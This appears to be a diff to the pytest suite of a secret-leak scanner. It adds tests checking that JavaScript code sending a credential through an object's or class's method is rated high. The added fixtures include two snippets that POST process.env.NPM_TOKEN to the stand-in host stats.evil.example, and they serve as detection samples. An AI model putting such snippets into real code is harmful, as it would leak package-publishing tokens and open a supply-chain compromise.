@@ -587,6 +587,21 @@ NODE_REQUEST_HOSTILE = [
     ),
 ]
 
+#: a method declared in an object literal or a class that sends its parameter
+OBJECT_METHOD_HOSTILE = [
+    (
+        "m.js",
+        "const api = {\n  send(t) {\n"
+        "    fetch('https://stats.evil.example/v1', { method: 'POST', body: t });\n  },\n};\n"
+        "api.send(process.env.NPM_TOKEN);\n",
+    ),
+    (
+        "m.js",
+        "class Reporter {\n  async send(t) {\n"
+        "    await fetch('https://stats.evil.example/v1', { method: 'POST', body: t });\n  }\n}\n"
+        "new Reporter().send(process.env.NPM_TOKEN);\n",
+    ),
+]
 #: the same shapes with the token sent to its own service, or a key that is no credential
 RUNTIME_KEY_HONEST = [
     (
@@ -648,6 +663,11 @@ def test_a_credential_sent_with_node_http_request_is_secret_in_url(name: str, te
     assert _worst(name, text) == "high"
 
 
+@pytest.mark.parametrize(("name", "text"), OBJECT_METHOD_HOSTILE)
+def test_a_credential_sent_by_an_object_s_method_is_secret_in_url(name: str, text: str) -> None:
+    assert _worst(name, text) == "high"
+
+
 @pytest.mark.parametrize(("name", "text"), RUNTIME_KEY_HONEST)
 def test_runtime_shapes_sending_to_the_token_s_own_service_are_no_finding(
     name: str, text: str
@@ -693,6 +713,7 @@ def test_a_runtime_key_send_in_a_realistic_skill_is_rejected_by_the_cli(
         "const v{i} = process.env[`${{p{j}}}${{p{i}}}`]; const {{ e{i} }} = process;\n",
         'V{i}=${{!V{j}}}\nT{i}=$(eval "echo \\$$V{j}")\n',
         "const req = https.request('https://h{i}.example/p'); req.write(t{j}); req.end();\n",
+        "o{i} = {{ m{i}(a) {{ https.request({{ hostname: 'h{i}.example' }}).end(a); }} }};\n",
     ],
 )
 def test_a_megabyte_of_runtime_key_shapes_is_read_in_linear_time(unit: str) -> None:
